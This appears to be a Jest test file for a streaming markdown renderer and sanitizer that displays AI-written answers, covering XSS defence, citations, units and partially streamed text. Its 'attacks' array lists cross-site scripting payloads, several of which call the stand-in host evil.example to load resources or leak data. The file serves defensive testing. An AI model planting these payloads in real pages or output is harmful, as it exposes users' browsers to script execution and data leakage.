import { describe, expect, it } from '@jest/globals';
import { markdownOptions as options } from '../../testing/markdown-options.ts';
import { MarkdownBlocks, type MarkdownOptions } from './markdown.ts';
import { sanitize } from './sanitize.ts';

const render = (text: string, over: Partial<MarkdownOptions> = {}) =>
  new MarkdownBlocks({ ...options, ...over }).update(text, true).blocks.join('');

function dom(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '[click](javascript:alert(1)) and [two](  JaVaScRiPt:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![x](https://evil.example/p.png?leak=1)',
  '![x](javascript:alert(1))',
  '<a href="vbscript:msgbox(1)" onclick="alert(1)">x</a>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">go</button></form>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<video poster=https://evil.example/x src=https://evil.example/y></video><audio src=https://evil.example/z autoplay>',
  '```html\n<img src=x onerror=alert(1)>\n```\n',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | ![p](https://evil.example/q) |\n',
  '<button data-cite="1" onclick="alert(1)" class="mantine-Button-root">1</button>',
  '<object data=x></object><embed src=x><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="https://ok.example" target="_self" rel="opener">x</a>',
];

function expectHarmless(html: string) {
  const content = dom(html);
  expect(
    content.querySelector(
      'script, iframe, img, svg, math, form, style, link, base, object, embed, meta, video, audio, source, textarea, select',
    ),
  ).toBeNull();
  for (const element of content.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src|^srcset|^id$|^name$|^formaction|^action|^poster|^xlink|^background/);
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:)/);
      if (name === 'class') expect(value).toMatch(/^md-/);
    }
    if (element.tagName === 'A' && element.hasAttribute('href'))
      expect(element.getAttribute('rel')).toBe('noopener noreferrer');
  }
}

describe('what a model writes is never trusted', () => {
  it.each(attacks)('%s, cut at every byte', (attack) => {
    const growing = new MarkdownBlocks(options);
    for (let end = 1; end <= attack.length; end++)
      expectHarmless(growing.update(attack.slice(0, end), false).blocks.join(''));
    expectHarmless(growing.update(attack, true).blocks.join(''));
    expectHarmless(sanitize(attack));
  });

  it('shows a foreign image as a link that names it, without loading it', () => {
    const link = dom(render('![A chart](https://files.example/c.png)')).querySelector('a');
    expect(link?.textContent).toBe('Image: A chart');
    expect(link?.getAttribute('data-host')).toBe('files.example');
    const raw = dom(render('Look: <img src="https://files.example/d.png">')).querySelector('a');
    expect(raw?.textContent).toBe('files.example');
  });

  it('opens links outside and names their host', () => {
    const link = dom(render('[docs](https://docs.example/a)')).querySelector('a');
    expect([link?.target, link?.rel, link?.dataset['host']]).toEqual(['_blank', 'noopener noreferrer', 'docs.example']);
  });
});

describe('citations', () => {
  it('become numbers tied to the word before', () => {
    const content = dom(render('Replaced at 22:00. [1] Older ones wait,[2] so.'));
    expect([...content.querySelectorAll('button.md-cite')].map((button) => button.textContent)).toEqual(['1', '2']);
    expect(content.textContent).toContain('22:00.\u00a01');
  });

  it('stay text without a source, and in code', () => {
    expect(dom(render('See [3] and `a[1]`')).querySelector('.md-cite')).toBeNull();
    expect(dom(render('See [3]', { sources: null })).querySelector('span.md-cite')?.textContent).toBe('3');
  });

  it('handle neighbours', () => {
    expect(dom(render('Both.[1][2]')).querySelectorAll('button.md-cite')).toHaveLength(2);
  });
});

describe('a figure', () => {
  const tied = (text: string) => [...dom(render(text)).querySelectorAll('.md-tied')].map((one) => one.textContent);

  it('stays on one line with its unit or currency sign, also in a table and before a citation', () => {
    expect(tied('From 99.5 % to € 1,200 at **21 °C**, 40 A.')).toEqual(['99.5 %', '€ 1,200', '21 °C']);
    expect(tied('| of | share |\n|---|---|\n| all | 99.5 % |\n')).toEqual(['99.5 %']);
    expect(tied('About 99.5 % [1] of all.')).toEqual(['99.5 %\u00a01']);
  });

  it('changes no code', () => {
    expect(tied('`5 % 3` and\n\n```\nx = 5 % 3\n```\n')).toEqual([]);
  });
});

describe('a growing answer', () => {
  /** As it stands while its last word is written. */
  const shown = (text: string) => dom(new MarkdownBlocks(options).update(text, false).blocks.join(''));

  it.each([
    ['It costs **28', 'strong', 'It costs 28'],
    ['Run `npm ru', 'code', 'Run npm ru'],
    ['- one\n- *two', 'em', 'onetwo'],
    ['| a | b |\n|---|---|\n| 1 | ~~2', 'del', 'ab12'],
  ])('shows no signs of what is still open: %s', (text, element, words) => {
    const content = shown(text);
    expect(content.querySelector(element)).not.toBeNull();
    expect(content.textContent?.replace(/\s*\n\s*/g, '').trim()).toBe(words);
  });

  it('shows the words of a link and of a picture whose address is not there yet', () => {
    expect(shown('See [the handbook](https://docs.exam').textContent?.trim()).toBe('See the handbook');
    const picture = shown('![The pond](https://pic');
    expect(picture.textContent?.trim()).toBe('Image: The pond');
    expect(picture.querySelector('a')?.hasAttribute('href')).toBe(false);
  });

  it('shows signs that open nothing, and code, as they are', () => {
    expect(shown('Is 2 * 3 < 7 and a_b, f(a*b').textContent?.trim()).toBe('Is 2 * 3 < 7 and a_b, f(a*b');
    expect(shown('```js\nlet **x').querySelector('code')?.textContent).toBe('let **x');
    expect(shown('| a | b |\n|---|---|\n| 20~25').textContent).toContain('20~25');
  });

  const text =
    '# Title\n\nFirst *paragraph* here.\n\n- one\n- two\n\n  more of two\n\n```ts\nconst a = 1;\n\nconst b = 2;\n```\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\nLast [1].\n';

  it.each([1, 3, 7, 20])('ends like the whole text when it comes in pieces of %i', (size) => {
    const growing = new MarkdownBlocks(options);
    for (let end = size; end < text.length; end += size) growing.update(text.slice(0, end), false);
    expect(growing.update(text, true).blocks.join('')).toBe(render(text));
  });

  it('keeps finished blocks as they are', () => {
    const growing = new MarkdownBlocks(options);
    const before = growing.update('One.\n\nTwo.\n\nThr', false).blocks;
    const after = growing.update('One.\n\nTwo.\n\nThree', false);
    expect(after.blocks.slice(0, 2)).toEqual(before.slice(0, 2));
    expect(after.isLastOpen).toBe(true);
  });

  it('starts anew when the text is another one', () => {
    const growing = new MarkdownBlocks(options);
    growing.update('One.\n\nTwo.', false);
    expect(dom(growing.update('Other.', true).blocks.join('')).textContent?.trim()).toBe('Other.');
  });
});
